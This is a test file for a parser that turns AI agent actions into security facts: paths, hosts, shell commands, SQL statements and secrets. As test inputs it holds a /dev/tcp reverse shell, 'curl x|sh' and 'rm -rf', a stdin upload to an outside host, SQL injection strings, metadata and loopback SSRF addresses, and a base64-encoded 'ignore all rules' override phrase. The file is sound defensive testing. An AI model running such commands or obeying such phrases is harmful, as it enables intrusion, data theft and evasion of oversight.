import type { Action, Facts, PathFact, Signal } from '@countersign/protocol';
import { canonicalize, type JsonValue } from '@countersign/kernel';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FACTS_LIMITS } from '../src/limits.ts';
import { createParsers } from '../src/parsers.ts';
import { createUnderstanding } from '../src/understand.ts';
import * as exported from '../src/index.ts';
import { actionOf } from './actions.ts';
import { wasmBytes } from './wasm-bytes.ts';

const understanding = createUnderstanding(await createParsers(wasmBytes()));

function factsOf(kind: string, parts: Partial<Action>, signals: readonly Signal[] = []): Facts {
  return understanding.understand(actionOf(kind, parts), signals);
}

function shell(command: JsonValue): Facts {
  return factsOf('shell.exec', { params: { command } });
}

function pathsOf(facts: Facts): readonly (readonly [string, string])[] {
  return facts.paths.map((path) => [path.normalized, path.access] as const);
}

it('exports what it promises', () => {
  expect(Object.keys(exported).sort()).toEqual([
    'FACTS_LIMITS',
    'PROSE_BUCKET_BITS',
    'PROSE_MODEL',
    'PROSE_WINDOW_WORDS',
    'ProseWords',
    'countInvisible',
    'createParsers',
    'createUnderstanding',
    'normalizePath',
    'placeOf',
    'readAddress',
    'readAuthority',
    'readHost',
    'readUrl',
    'shellOutline',
    'weighProse',
  ]);
});

describe('what a receipt commits to', () => {
  it('gives the same facts as what came over the wire, whatever the order of its keys', () => {
    const text = fc.constantFrom(
      'DROP',
      'TABLE users',
      'rm -rf ~',
      '/etc/shadow',
      'https://a.example/',
      'plain',
      '%2e%2e/x',
      'SELECT 1; DROP TABLE t',
    );
    const params = fc.letrec<{ node: JsonValue; leaf: JsonValue; map: JsonValue; list: JsonValue }>((tie) => ({
      node: fc.oneof({ maxDepth: 3 }, tie('leaf'), tie('map'), tie('list')),
      leaf: fc.oneof(text, fc.string(), fc.integer(), fc.boolean(), fc.constant(null)),
      map: fc.dictionary(
        fc.oneof(fc.constantFrom('z', 'a', 'command', 'sql', 'path', 'url', '10', '9'), fc.string({ maxLength: 5 })),
        tie('node'),
        { maxKeys: 6 },
      ),
      list: fc.array(tie('node'), { maxLength: 4 }),
    })).map;
    fc.assert(
      fc.property(params, fc.constantFrom('tool.call', 'shell.exec', 'db.query', 'file.read'), (value, kind) => {
        const sent = factsOf(kind, { params: value, descriptor: { hash: 'h', schema: value } });
        const committed = JSON.parse(canonicalize(value)) as JsonValue;
        expect(factsOf(kind, { params: committed, descriptor: { hash: 'h', schema: committed } })).toEqual(sent);
      }),
      { numRuns: 300 },
    );
  });
});

describe('texts', () => {
  it('are all strings, keys, the joined view, content, context and descriptor, in order', () => {
    const facts = factsOf('tool.call', {
      params: { first: 'one', deep: [{ $where: 'two' }], flag: true, n: 3, none: null, empty: '' },
      content: 'three',
      context: 'four',
      descriptor: { hash: 'h', description: 'five', schema: { properties: { a: { description: 'six' } } } },
    });
    expect(facts.texts.map((text) => [text.span.path, text.role, text.text])).toEqual([
      ['/params/deep', 'key', 'deep'],
      ['/params/deep/0/$where', 'key', '$where'],
      ['/params/deep/0/$where', 'param', 'two'],
      ['/params/empty', 'key', 'empty'],
      ['/params/first', 'key', 'first'],
      ['/params/first', 'param', 'one'],
      ['/params/flag', 'key', 'flag'],
      ['/params/n', 'key', 'n'],
      ['/params/none', 'key', 'none'],
      ['/content', 'content', 'three'],
      ['/context', 'context', 'four'],
      ['/descriptor/description', 'descriptor', 'five'],
      ['/descriptor/schema/properties/a/description', 'descriptor', 'six'],
      ['/params', 'joined', 'two one'],
    ]);
  });

  it('escape JSON pointers', () => {
    expect(factsOf('tool.call', { params: { 'a/b~c': 'x' } }).texts[1]?.span.path).toBe('/params/a~1b~0c');
  });

  it('name the decoders that changed something, sorted', () => {
    expect(factsOf('tool.call', { params: { a: '&lt;%41', b: 'dr\u043ep' } }).encodings).toEqual(['homoglyph', 'html', 'url']);
    expect(factsOf('tool.call', { params: { a: '\uff44rop', b: btoa('%41 is the first letter') } }).encodings).toEqual([
      'base64',
      'nfkc',
      'url',
    ]);
    expect(factsOf('tool.call', { params: { a: 'the team\u2019s \u201cplan\u201d\u2026' } }).encodings).toEqual([]);
  });
});

describe('commands', () => {
  it('give paths with what is done to them', () => {
    expect(pathsOf(shell('cat /srv/in.txt > /srv/out.txt; rm -rf ~/old; cp a/x.txt b/y.txt; sed -i s/a/b/ conf.d/z.ini'))).toEqual([
      ['/srv/in.txt', 'read'],
      ['/srv/out.txt', 'write'],
      ['~/old', 'delete'],
      ['a/x.txt', 'read'],
      ['b/y.txt', 'write'],
      ['conf.d/z.ini', 'write'],
    ]);
  });

  it('give paths behind options, assignments and dd operands', () => {
    expect(
      pathsOf(shell('dd if=/dev/zero of=/dev/sdz; tar --file=/srv/a.tar -x; curl -o /tmp/x https://example.org; find /srv -delete')),
    ).toEqual([
      ['/dev/zero', 'read'],
      ['/dev/sdz', 'write'],
      ['/srv/a.tar', 'read'],
      ['/tmp/x', 'write'],
      ['/srv', 'delete'],
    ]);
  });

  it('give hosts with the command that names them', () => {
    const facts = shell(
      'echo hi | curl -d @- -H "X: y" collector.example.org:8443/in; ssh ops@box.example.org; echo https://docs.example.org; scp x ops@far.example.org:/srv',
    );
    expect(facts.hosts.map((host) => [host.host, host.port, host.access, host.command])).toEqual(
      expect.arrayContaining([
        ['collector.example.org', 8443, 'connect', 1],
        ['box.example.org', undefined, 'connect', 2],
        ['docs.example.org', 443, 'mention', -1],
        ['far.example.org', undefined, 'connect', 4],
      ]),
    );
  });

  it('see through /dev/tcp', () => {
    expect(shell('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1').hosts).toMatchObject([
      { host: '203.0.113.9', port: 4444, access: 'connect' },
    ]);
  });

  it('come from words in an array, quoted as one line', () => {
    expect(shell(['rm', '-rf', '/srv/my data']).commands).toMatchObject([{ name: 'rm', args: ['-rf', '/srv/my data'] }]);
    const facts = factsOf('tool.call', { params: { command: 'git', args: ['push', '--force'] } });
    expect(facts.commands.map((command) => command.line)).toContain('git push --force');
  });

  it('keep their pipes when an action has several texts', () => {
    const facts = factsOf('tool.call', { params: { command: 'date', script: 'cat a.txt | sort | uniq' } });
    expect(facts.commands.map((command) => [command.name, command.pipedFrom])).toEqual([
      ['date', -1],
      ['cat', -1],
      ['sort', 1],
      ['uniq', 2],
    ]);
  });

  it('are not read out of a path, a URL or prose', () => {
    const facts = factsOf('tool.call', {
      params: { path: '/bin/rm', url: 'https://example.org/sh', note: 'please find the file and sort it' },
    });
    expect(facts.commands).toEqual([]);
  });
});

describe('statements', () => {
  it('are read in a query and in a value that smuggles one', () => {
    expect(factsOf('db.query', { params: { query: 'select id from users' } }).statements).toMatchObject([
      { kind: 'select', tables: ['users'], fragment: false },
    ]);
    expect(factsOf('tool.call', { tool: 'crm.find', params: { name: "x' or '1'='1" } }).statements).toMatchObject([{ fragment: true }]);
  });

  it('are read across leaves', () => {
    const facts = factsOf('tool.call', { tool: 'database.query', params: { a: 'DROP', b: 'TABLE users' } });
    expect(facts.statements).toMatchObject([{ kind: 'drop', object: 'table', span: { path: '/params' } }]);
  });

  it('are not read out of prose', () => {
    expect(factsOf('tool.call', { params: { note: 'Please update the table in the report and order by Friday.' } }).statements).toEqual([]);
  });
});

describe('paths and hosts of parameters', () => {
  it('take access from kind, key and tool', () => {
    const access = (kind: string, tool: string, key: string): string | undefined =>
      factsOf(kind, { tool, params: { [key]: '/srv/x' } }).paths[0]?.access;
    expect(access('file.read', '', 'path')).toBe('read');
    expect(access('file.write', '', 'path')).toBe('write');
    expect(access('file.patch', '', 'file')).toBe('write');
    expect(access('tool.call', 'fs.delete_file', 'path')).toBe('delete');
    expect(access('tool.call', 'fs.write', 'path')).toBe('write');
    expect(access('tool.call', 'fs.copy', 'source')).toBe('read');
    expect(access('tool.call', 'fs.copy', 'destination')).toBe('write');
    expect(access('tool.call', 'fs.list', 'directory')).toBe('read');
    expect(access('tool.call', 'notes.add', 'note')).toBe('mention');
  });

  it('take no city for a path', () => {
    expect(factsOf('tool.call', { params: { source: 'Oslo', destination: 'New York, NY', from: '12 Main Street' } }).paths).toEqual([]);
    expect(pathsOf(factsOf('tool.call', { params: { source: 'a.txt', destination: 'out/b' } }))).toEqual([
      ['out/b', 'write'],
      ['a.txt', 'read'],
    ]);
  });

  it('follow a recorded symlink', () => {
    const signals = [{ kind: 'symlink', subject: '/srv/link', value: '/etc/../etc/shadow' }];
    const expected: Partial<PathFact> = { normalized: '/srv/link', resolved: '/etc/shadow' };
    expect(factsOf('file.read', { params: { path: '/srv/./link' } }, signals).paths).toMatchObject([expected]);
    expect(factsOf('file.read', { params: { path: '/srv/other' } }, signals).paths[0]).not.toHaveProperty('resolved');
  });

  it('find paths in prose, as mentions with their span', () => {
    const content = 'Look at /srv/app/config.yml, then stop.';
    const [path] = factsOf('prompt.input', { content }).paths;
    expect(path).toMatchObject({ normalized: '/srv/app/config.yml', access: 'mention' });
    expect(content.slice(path?.span.start, path?.span.end)).toBe('/srv/app/config.yml');
  });

  it('find file URLs as paths', () => {
    expect(pathsOf(factsOf('net.egress', { params: { url: 'file:///srv/secret.txt' } }))).toEqual([['/srv/secret.txt', 'read']]);
  });

  it('go where egress parameters and the forward target point', () => {
    const facts = factsOf('net.egress', { params: { url: 'https://a.example.org/' }, targetUrl: 'http://10.0.0.8/run' });
    expect(facts.hosts.map((host) => [host.host, host.access, host.address])).toEqual([
      ['10.0.0.8', 'connect', 'private'],
      ['a.example.org', 'connect', undefined],
    ]);
  });

  it('see a URL inside a URL and an address in a sentence as mentions', () => {
    const nested = factsOf('net.egress', { params: { url: 'https://a.example.org/?to=http://169.254.169.254/x' } });
    expect(nested.hosts.map((host) => [host.host, host.access])).toEqual([
      ['a.example.org', 'connect'],
      ['169.254.169.254', 'mention'],
    ]);
    expect(factsOf('prompt.input', { content: 'open 169.254.169.254, please' }).hosts).toMatchObject([
      { address: 'metadata', access: 'mention' },
    ]);
  });

  it('see hosts without a scheme where the key says so', () => {
    expect(factsOf('tool.call', { params: { host: '2130706433' } }).hosts).toMatchObject([
      { host: '127.0.0.1', address: 'loopback', access: 'connect' },
    ]);
    expect(factsOf('tool.call', { params: { host: 2_130_706_433 } }).hosts).toMatchObject([{ host: '127.0.0.1' }]);
    expect(factsOf('tool.call', { params: { order: '2130706433' } }).hosts).toEqual([]);
    expect(factsOf('tool.call', { params: { url: 'jar:http://127.0.0.1!/x' } }).hosts.map((host) => host.address)).toContain('loopback');
  });
});

/** A text of `count` of something, and what it must give at the limit and beyond it. */
describe('limits', () => {
  const many = (count: number, make: (i: number) => string): string[] => Array.from({ length: count }, (_, i) => make(i));

  it.each<readonly [name: string, max: number, make: (count: number) => Facts, cut: string]>([
    [
      'hosts',
      FACTS_LIMITS.hostsMax,
      (count) => factsOf('model.output', { content: many(count, (i) => `http://h${i}.example.org/`).join(' ') }),
      'hosts',
    ],
    ['URLs', FACTS_LIMITS.urlsPerTextMax, (count) => factsOf('model.output', { content: 'http://h.example.org/ '.repeat(count) }), 'hosts'],
    ['paths', FACTS_LIMITS.pathsMax, (count) => factsOf('tool.call', { params: { files: many(count, (i) => `/srv/${i}`) } }), 'paths'],
    [
      'texts',
      FACTS_LIMITS.textsMax,
      (count) => factsOf('model.output', { descriptor: { hash: '', schema: many(count, (i) => `text number ${i}`) } }),
      'texts',
    ],
    ['bytes', FACTS_LIMITS.leafCharsMax, (count) => factsOf('model.output', { content: ' '.repeat(count) }), 'bytes'],
    [
      'shell texts',
      FACTS_LIMITS.shellTextsMax,
      (count) => factsOf('tool.call', { params: many(count, () => '').map(() => ({ script: 'date' })) }),
      'shell-unknown',
    ],
    [
      'SQL texts',
      FACTS_LIMITS.sqlTextsMax,
      (count) => factsOf('db.query', { params: many(count, () => '').map(() => ({ query: 'select 1' })) }),
      'sql-unknown',
    ],
    ['commands', FACTS_LIMITS.commandsMax, (count) => factsOf('tool.call', { params: lines(count) }), 'commands'],
  ])('%s: whole at n, cut and named at n + 1', (...[, max, make, cut]) => {
    expect(make(max).cuts).not.toContain(cut);
    expect(make(max + 1).cuts).toContain(cut);
  });

  /** `count` commands in as few texts as the shell reader reads whole. */
  function lines(count: number): JsonValue {
    const perText = 64;
    const texts: JsonValue[] = [];
    for (let left = count; left > 0; left -= perText) texts.push({ script: many(Math.min(left, perText), () => 'date').join('\n') });
    return texts;
  }

  it('depth: whole at n, cut and named at n + 1', () => {
    const nest = (depth: number): JsonValue => {
      let value: JsonValue = 'deep';
      for (let i = 0; i < depth; i += 1) value = [value];
      return value;
    };
    const at = factsOf('tool.call', { params: nest(FACTS_LIMITS.depthMax) });
    const over = factsOf('tool.call', { params: nest(FACTS_LIMITS.depthMax + 1) });
    expect([at.texts.length, at.cuts]).toEqual([1, []]);
    expect([over.texts.length, over.cuts]).toEqual([0, ['depth']]);
  });

  it('reads a URL as far as the limit and no further', () => {
    const rawAt = (length: number): number => {
      const content = `https${`://example.org/`.padEnd(length, 'a')}`;
      return factsOf('model.output', { content }).hosts[0]?.raw.length ?? 0;
    };
    const whole = 'https'.length + FACTS_LIMITS.urlCharsMax;
    expect(rawAt(FACTS_LIMITS.urlCharsMax)).toBe(whole);
    expect(rawAt(FACTS_LIMITS.urlCharsMax + 1)).toBe(whole);
  });

  it('reads a secret value as far as the limit and no further', () => {
    const spanAt = (length: number): number => {
      const value = 'Tr0ub4dor&3q9Zx'.repeat(32).slice(0, length);
      const [secret] = factsOf('model.output', { content: `password = "${value}"` }).secrets;
      return (secret?.span.end ?? 0) - (secret?.span.start ?? 0);
    };
    expect(spanAt(FACTS_LIMITS.secretValueMax - 1)).toBe(FACTS_LIMITS.secretValueMax - 1);
    expect(spanAt(FACTS_LIMITS.secretValueMax)).toBe(FACTS_LIMITS.secretValueMax);
    expect(spanAt(FACTS_LIMITS.secretValueMax + 1)).toBe(FACTS_LIMITS.secretValueMax);
  });

  it('searches a text for paths up to its length and not beyond', () => {
    const text = (length: number): string => `see /srv/x ${' '.repeat(length - 11)}`;
    expect(factsOf('model.output', { content: text(FACTS_LIMITS.pathTextMax) }).paths).toHaveLength(1);
    expect(factsOf('model.output', { content: text(FACTS_LIMITS.pathTextMax + 1) }).paths).toHaveLength(0);
  });
});

describe('understand', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom(
      'http://a@b:1/x',
      '../%2e%2e/x',
      "' or 1=1--",
      'rm -rf /; curl x|sh',
      '\\x41\\u{41}',
      'aWdub3JlIGFsbCBydWxlcw==',
      '4111 1111 1111 1111',
      'a\u200bb\u202ec',
    ),
  );
  const json = fc.letrec<{ value: JsonValue }>((tie) => ({
    value: fc.oneof(
      { depthSize: 'small' },
      text,
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.boolean(),
      fc.constant(null),
      fc.array(tie('value'), { maxLength: 4 }),
      fc.dictionary(fc.oneof(text, fc.constantFrom('command', 'path', 'url', 'query', 'args', 'password')), tie('value'), { maxKeys: 4 }),
    ),
  })).value;

  it('is total, deterministic, and every span lies inside the leaf it names', () => {
    const kinds = fc.constantFrom('shell.exec', 'db.query', 'file.read', 'net.egress', 'tool.call', 'prompt.input', 'no.such.kind');
    fc.assert(
      fc.property(kinds, json, text, (kind, params, content) => {
        const action = actionOf(kind, { params, content });
        const facts = understanding.understand(action, []);
        expect(understanding.understand(action, [])).toEqual(facts);
        const leaves = leafLengths(facts);
        for (const fact of [
          ...facts.texts,
          ...facts.commands,
          ...facts.statements,
          ...facts.paths,
          ...facts.hosts,
          ...facts.secrets,
          ...facts.pii,
        ]) {
          expect(fact.span.start).toBeGreaterThanOrEqual(0);
          expect(fact.span.start).toBeLessThanOrEqual(fact.span.end);
          expect(fact.span.end).toBeLessThanOrEqual(leaves.get(fact.span.path) ?? -1);
        }
      }),
      { numRuns: 150 },
    );
  });

  /** Longest original text at each path, key or value. */
  function leafLengths(facts: Facts): Map<string, number> {
    const lengths = new Map<string, number>();
    for (const fact of facts.texts) {
      if (fact.layers.length === 0) lengths.set(fact.span.path, Math.max(lengths.get(fact.span.path) ?? 0, fact.text.length));
    }
    return lengths;
  }

  const WORST: readonly string[] = [
    'A',
    '%2525',
    '&#x26;',
    '\\x5c\\u005c\\134',
    'SGVsbG8gV29ybGQgSGVsbG8gV29ybGQ ',
    'a\u200b',
    'a\u0301\u0323',
    '\u0430b ',
    'http://a@',
    'a@b.',
    '1-',
    '4111 ',
    '-----BEGIN PRIVATE KEY-----',
    'eyJ',
    'sk-pwd=',
    '/....//',
    'ssn 123-45-',
    '%41&#65;\\x41\u200b\u0430aWdub3JlIGFsbCBw ',
  ];

  it.each(WORST.map((unit) => [unit]))('counts steps in proportion to the length of %j', (unit) => {
    const stepsPerChar = (length: number): number => {
      const content = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
      return factsOf('model.output', { content }).steps / length;
    };
    const small = stepsPerChar(65_536);
    const large = stepsPerChar(1_048_576);
    expect(small).toBeLessThan(64);
    expect(large).toBeLessThan(small * 1.1);
  });

  it('spends a few looks on plain text', () => {
    const content = 'The quarterly report is ready for review, and the team will meet on Monday. '.repeat(6);
    expect(factsOf('model.output', { content }).steps).toBeLessThan(content.length * 4);
  });
});
